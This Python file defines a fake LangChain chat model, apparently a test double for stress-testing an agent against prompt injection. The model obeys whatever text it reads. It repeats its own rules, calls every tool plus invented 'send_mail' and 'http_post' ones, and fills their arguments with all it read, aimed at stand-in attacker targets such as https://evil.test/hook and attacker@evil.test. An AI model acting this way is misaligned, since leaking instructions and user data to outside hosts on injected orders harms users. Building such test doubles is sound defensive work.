"""A chat model without a will: it does whatever anything it reads asks of it, which no real one should."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator, Sequence
from typing import Any

from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage, ToolCall
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from langchain_core.runnables import Runnable
from typing_extensions import override

_PIECE = 7  # characters, so that links and sentences come in parts


_MAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
_TARGETS = {"webhook": "https://evil.test/hook", "calendar": "evil@evil.test", "event_type": "https://evil.test/e"}


class ObedientModel(BaseChatModel):
    """Says all that it was told, word by word: its rules, the passages, the question, and what `also` adds.

    Given tools, it calls each of them, and some that do not exist, with all that it read for each detail.
    """

    also: str = ""

    @property
    def _llm_type(self) -> str:
        return "obedient"

    @override
    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Runnable[Any, AIMessage]:
        return self.bind(names=[tool["function"]["name"] for tool in tools])

    @override
    async def _agenerate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        read = "\n".join(str(message.content) for message in messages[1:])
        names = ["send_mail", "http_post", *kwargs["names"]]
        calls = [ToolCall(name=name, args=_obeyed(read), id=f"call-{n}") for n, name in enumerate(names)]
        # First it only reads, so that what it was told by a tool is read as well.
        reads = [call for call in calls if call["name"] == "list_free_times"]
        chosen = reads if reads and len(messages) < 4 else calls
        return ChatResult(generations=[ChatGeneration(message=AIMessage(read, tool_calls=chosen))])

    @override
    def _generate(self, messages: list[BaseMessage], *args: Any, **kwargs: Any) -> ChatResult:
        raise NotImplementedError

    @override
    async def _astream(
        self, messages: list[BaseMessage], *args: Any, **kwargs: Any
    ) -> AsyncIterator[ChatGenerationChunk]:
        said = "\n\n".join([self.also, *(str(message.content) for message in reversed(messages))])
        for start in range(0, len(said), _PIECE):
            await asyncio.sleep(0)
            yield ChatGenerationChunk(message=AIMessageChunk(content=said[start : start + _PIECE]))


def _obeyed(read: str) -> dict[str, Any]:
    mail = _MAIL.search(read)
    times = re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\dZ", read)
    told = {"name": read[:90], "email": mail[0] if mail else "attacker@evil.test", "message": read}
    return {**told, "start": times[0] if times else read, "day": read, "answer": "yes", "confirmed": True, **_TARGETS}
